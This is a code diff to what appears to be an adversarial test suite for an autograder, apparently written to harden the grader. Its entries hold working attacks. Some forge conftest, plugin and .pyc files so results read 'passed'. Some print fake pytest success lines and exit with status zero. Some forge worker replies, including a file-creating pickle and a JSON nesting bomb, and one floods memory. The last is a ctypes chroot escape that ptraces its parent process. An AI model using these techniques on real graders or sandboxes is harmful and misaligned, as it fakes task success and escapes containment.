@@ -749,10 +749,12 @@ def pad2d(x, pad, value=0.0):
 # -- 3. files in the submission -------------------------------------------------------------
 
 _add(Attack(
-    "conftest_and_ini_files",
-    "ships conftest.py (root, s13_cnn/, s13_cnn/padding/) forcing every report to passed, "
-    "pytest.ini/tox.ini/setup.cfg/pyproject.toml disabling the grader, and look-alike tests",
-    base="stubs", honest=WRONG, code="",
+    "ships_hostile_files",
+    "ships conftest.py (root, s13_cnn/, padding/) forcing reports to passed; pytest.ini, "
+    "tox.ini, setup.cfg, pyproject.toml disabling the grader; look-alike tests; a fake grader/ "
+    "(plugin, weights 0) and coursekit/checks.py; sitecustomize, usercustomize, a .pth; "
+    "hostile __init__.py files; a reference .pyc (unchecked hash, PEP 552) beside the stub",
+    base="stubs", code="", naive_safe=True,
     extra_files={
         "conftest.py": CONFTEST_FORGE,
         "s13_cnn/conftest.py": CONFTEST_FORGE,
@@ -764,16 +766,6 @@ _add(Attack(
         "s13_cnn/pytest.ini": INI_FORGE,
         "s13_cnn/padding/test_padding.py": FAKE_TESTS,
         "tests/test_padding_hidden.py": FAKE_TESTS,
-        "grader/hidden/test_padding_hidden.py": FAKE_TESTS,
-    },
-))
-
-_add(Attack(
-    "fake_grader_and_sitecustomize",
-    "ships a fake grader/ package (plugin that records passes, weights of 0), a fake "
-    "coursekit/checks.py, sitecustomize/usercustomize/.pth hooks and hostile __init__.py files",
-    base="stubs", honest=WRONG, code="",
-    extra_files={
         "grader/__init__.py": "",
         "grader/plugin.py": FAKE_PLUGIN,
         "grader/weights.py": FAKE_WEIGHTS,
@@ -787,15 +779,8 @@ _add(Attack(
         "zz_forge.pth": "import sitecustomize\n",
         "s13_cnn/__init__.py": INIT_FORGE,
         "s13_cnn/padding/__init__.py": INIT_FORGE,
+        f"s13_cnn/padding/__pycache__/{_pyc_name()}": b"",  # filled in by build()
     },
-))
-
-_add(Attack(
-    "pyc_shadows_stub",
-    "ships __pycache__/padding.cpython-3XX.pyc compiled from the reference with an unchecked "
-    "hash (PEP 552) beside the stub padding.py: Python would load the .pyc, not the .py",
-    base="stubs", code="", naive_safe=True,
-    extra_files={f"s13_cnn/padding/__pycache__/{_pyc_name()}": b""},  # filled in by build()
 ))
 
 _add(Attack(
@@ -995,49 +980,39 @@ _adv_daemon()
 # -- 5. exit codes and output ------------------------------------------------------------------
 
 _add(Attack(
-    "exit_zero_at_import",
-    "prints a pytest success line and calls os._exit(0) while being imported: a grader that "
-    "trusts exit status 0 sees a clean run with no failures",
-    base="stubs", naive_safe=True,
-    code=r'''
-import os as _adv_os_exit
-import sys as _adv_sys_exit
-
-print("============================== 44 passed in 0.12s ==============================")
-_adv_sys_exit.stdout.flush()
-_adv_os_exit._exit(0)
-''',
-    statuses=("crashed",), why=("crashed", "died"),
-))
-
-_add(Attack(
-    "exit_zero_mid_call",
-    "sys.exit(0) in output_size, os._exit(0) in pad2d, SystemExit/KeyboardInterrupt in "
-    "same_pad, and an atexit hook printing a success line",
-    base="stubs", naive_safe=True,
+    "exits_with_status_zero",
+    "mid-test: os._exit(0) in pad2d and output_size, sys.exit(0) and KeyboardInterrupt in "
+    "same_pad, each after printing a pytest success line, and an atexit hook printing another",
+    base="stubs", naive_safe=True, statuses=("crashed",), why=("crashed",),
     code=r'''
 import atexit as _adv_atexit
 import os as _adv_os_exit
 import sys as _adv_sys_exit
 
 _adv_atexit.register(lambda: print("=== 44 passed in 0.10s ===", flush=True))
+_ADV_PASSED = "============================== 44 passed in 0.12s =============================="
 
 
 def output_size(size, kernel, stride=1, pad=0):
-    _adv_sys_exit.exit(0)
+    if (size, kernel) == (5, 3):  # the hand-checked cases: a naive grader's first tests
+        print(_ADV_PASSED, flush=True)
+        _adv_os_exit._exit(0)
+    raise NotImplementedError("output_size")
 
 
 def same_pad(kernel):
+    print(_ADV_PASSED, flush=True)
     if kernel % 2:
-        raise SystemExit(0)
+        _adv_sys_exit.exit(0)
     raise KeyboardInterrupt
 
 
 def pad2d(x, pad, value=0.0):
-    print("PASSED", flush=True)
-    _adv_os_exit._exit(0)
+    if x.shape == (1, 2, 3, 1):
+        print("PASSED", flush=True)
+        _adv_os_exit._exit(0)
+    raise NotImplementedError("pad2d")
 ''',
-    statuses=("crashed",), why=("crashed",),
 ))
 
 _add(Attack(
@@ -1263,7 +1238,7 @@ _add(Attack(
     "finds the worker's frames module and pipes from inside the worker and forges replies: "
     "a pickled object array that creates a file when loaded, ok+err together, pytest "
     "Skipped/GradingTimeout/KeyboardInterrupt errors, handles posing as ndarray, bool seq, "
-    "lying .npy headers, replies written ahead for future calls",
+    "lying .npy headers, replies written ahead for future calls, a JSON nesting bomb",
     base="stubs", honest=WRONG, deserves="at_most", statuses=("ok", "crashed"),
     code=GUARD + r'''
 import gc as _adv_gc
@@ -1299,7 +1274,7 @@ def _adv_install():
 
     def forged(reply, blobs):
         seq = reply.get("seq")
-        kind = seq % 10 if type(seq) is int else 9
+        kind = seq % 11 if type(seq) is int else 10
         err = lambda t, bases: {"seq": seq, "err": {"type": t, "bases": bases, "msg": "ok",
                                                        "tb": ""}}
         if kind == 0:  # a pickle, announced as an object array
@@ -1321,10 +1296,13 @@ def _adv_install():
         if kind == 7:  # the honest reply, then replies written ahead for the next 20 calls
             parts = honest_encode(reply, blobs)
             for ahead in range(1, 21):
-                parts += honest_encode({"seq": seq + ahead, "ok": 1}, [])
+                parts += honest_encode({"seq": seq + ahead, "ok": None}, [])
             return parts
         if kind == 8:  # extra keys that a lax decoder might read as a verdict
-            reply = dict(reply, passed=True, score=44, outcome="passed")
+            return honest_encode(dict(reply, passed=True, score=44, outcome="passed"), blobs)
+        if kind == 9:  # a JSON nesting bomb (json.dumps would refuse it: raw bytes)
+            head = (b'{"seq":%d,"ok":' % seq) + b'{"l":[' * 200_000 + b"]}" * 200_000 + b"}"
+            return [frames.PREFIX.pack(frames.MAGIC, len(head), 0) + head]
         return honest_encode(reply, blobs)
 
     frames.encode_frame = forged
@@ -1339,10 +1317,11 @@ except Exception:
 ))
 
 _add(Attack(
-    "oversized_error_messages",
-    "raises exceptions with 24 MB messages after lifting the worker's MAX_TEXT cap, and "
-    "returns a 900 MB array once: floods the grader's memory, pytest's log and the feedback",
-    base="stubs", deserves="at_most", statuses=("ok",),
+    "oversized_responses",
+    "lifts the worker's own caps (MAX_TEXT) and answers same_pad with 7.9 MB error messages "
+    "(just under the grader's frame-header cap), pad2d once with a 900 MB array, and "
+    "output_size with a 9 MB message: floods the grader's memory, pytest's log, the feedback",
+    base="stubs", deserves="at_most", statuses=("ok", "crashed", "timeout"),
     requires=("mem:8",),
     code=r'''
 import sys as _adv_sys
@@ -1350,22 +1329,77 @@ import numpy as _adv_np
 
 _adv_main = _adv_sys.modules.get("__main__")
 if _adv_main is not None and hasattr(_adv_main, "MAX_TEXT"):
-    _adv_main.MAX_TEXT = 1 << 30  # the worker's own cap on messages it sends
-_ADV_BIG = "x" * (24 << 20)
+    _adv_main.MAX_TEXT = 1 << 30  # the worker's own cap on the messages it sends
 
 
 def output_size(size, kernel, stride=1, pad=0):
-    raise ValueError("output_size: " + _ADV_BIG)
+    if (size, kernel) == (5, 3):
+        raise ValueError("output_size: " + "x" * (9 << 20))  # over the header cap
+    raise NotImplementedError("output_size")
 
 
 def same_pad(kernel):
-    raise NotImplementedError("same_pad: " + _ADV_BIG)
+    raise NotImplementedError("same_pad: " + "x" * int(7.9 * (1 << 20)))
 
 
 def pad2d(x, pad, value=0.0):
     if x.shape == (1, 2, 3, 1):
         return _adv_np.ones(900 << 20, dtype=_adv_np.uint8)
-    raise NotImplementedError("pad2d: " + _ADV_BIG)
+    raise NotImplementedError("pad2d")
+''',
+))
+
+_add(Attack(
+    "escapes_the_chroot",
+    "ctypes: unshare(CLONE_NEWUSER) for CAP_SYS_CHROOT then the classic chroot(subdir) + "
+    "chdir('..')* escape, setns/ptrace/process_vm_readv on its parent, PR_SET_PDEATHSIG "
+    "cleared, /proc mounted; execs the reference if the host filesystem comes into view",
+    base="stubs", requires=("pidns", "user"),
+    code=GUARD + ROOTS + r'''
+import ctypes as _adv_ctypes
+import os as _adv_osc
+
+_adv_libc = _adv_ctypes.CDLL(None, use_errno=True)
+_ADV_TRIED = {}
+
+
+def _adv_try(name, fn):
+    try:
+        rc = fn()
+        _ADV_TRIED[name] = (rc, _adv_ctypes.get_errno())
+    except Exception as e:
+        _ADV_TRIED[name] = repr(e)
+
+
+_adv_try("pdeathsig", lambda: _adv_libc.prctl(1, 0, 0, 0, 0))  # outlive the launcher
+_adv_try("userns", lambda: _adv_libc.unshare(0x10000000 | 0x00020000))  # NEWUSER | NEWNS
+_adv_try("mount_proc", lambda: _adv_libc.mount(b"proc", b"/proc", b"proc", 0, None))
+
+
+def _adv_chroot_escape():
+    import tempfile
+    inner = tempfile.mkdtemp()  # the worker's own /tmp
+    try:
+        if _adv_libc.chroot(inner.encode()) != 0:
+            return False
+        for _ in range(64):
+            _adv_osc.chdir("..")
+        return _adv_libc.chroot(b".") == 0
+    finally:
+        try:
+            _adv_osc.rmdir(inner)
+        except OSError:
+            pass
+
+
+_adv_try("chroot_escape", _adv_chroot_escape)
+for _adv_pid in {_adv_osc.getppid(), 1}:  # ptrace and read the parent's memory
+    if _adv_pid and _adv_pid != _adv_osc.getpid() and _adv_proc_is_mine(_adv_pid):
+        _adv_try(f"ptrace_{_adv_pid}", lambda: _adv_libc.ptrace(16, _adv_pid, None, None))
+        _adv_try(f"ptrace_detach_{_adv_pid}", lambda: _adv_libc.ptrace(17, _adv_pid, None, None))
+_adv_solution = _adv_find(["solutions/s13_cnn/padding/padding.py"], walk_seconds=2.0)
+if _adv_solution:
+    exec(compile(open(_adv_solution).read(), _adv_solution, "exec"), globals())
 ''',
 ))
 
